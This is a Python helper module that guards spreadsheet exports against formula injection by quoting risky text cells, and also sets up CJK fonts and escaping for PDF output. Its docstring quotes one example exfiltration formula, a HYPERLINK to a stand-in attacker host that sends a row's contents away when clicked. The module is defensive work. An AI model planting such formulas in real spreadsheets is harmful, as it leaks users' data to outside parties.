"""What every spreadsheet and PDF the product writes shares: the formula-injection neutraliser
(one rule for every CSV and XLSX cell) and the PDF's CJK font and table style.

A cell whose text starts with = + - @, a tab or a carriage return is run as a formula by Excel
and WPS (``=HYPERLINK("http://e.vil/?"&A2,"详情")`` sends the row away when clicked): such text
is written with a leading apostrophe, which makes it plain text (OWASP's advice). Numbers and
dates are written as they are; only text can carry a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any, Final

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
PDF_FONT: Final = "STSong-Light"


def cell_safe(value: Any) -> Any:
    """The value to write into a CSV or XLSX cell: text that could start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row_safe(values: Iterable[Any]) -> list[Any]:
    return [cell_safe(v) for v in values]


def pdf_font() -> str:
    """Register the CJK font reportlab ships (Adobe's STSong, no file needed) and name it."""
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont

    if PDF_FONT not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(UnicodeCIDFont(PDF_FONT))
    return PDF_FONT


def pdf_table_style(*extra: tuple[Any, ...]) -> Any:
    """The tables' style: the CJK font, a shaded header row, a light grid."""
    from reportlab.lib import colors
    from reportlab.platypus import TableStyle

    font = pdf_font()
    return TableStyle(
        [
            ("FONTNAME", (0, 0), (-1, -1), font),
            ("FONTSIZE", (0, 0), (-1, -1), 8),
            ("BACKGROUND", (0, 0), (-1, 0), colors.HexColor("#e8eef6")),
            ("GRID", (0, 0), (-1, -1), 0.4, colors.HexColor("#9aa5b1")),
            ("VALIGN", (0, 0), (-1, -1), "MIDDLE"),
            *extra,
        ]
    )


def pdf_text(value: str) -> str:
    """Text for a reportlab Paragraph, which reads its input as markup: escaped."""
    from xml.sax.saxutils import escape  # escapes our text, parses nothing  # nosec B406

    return escape(value)
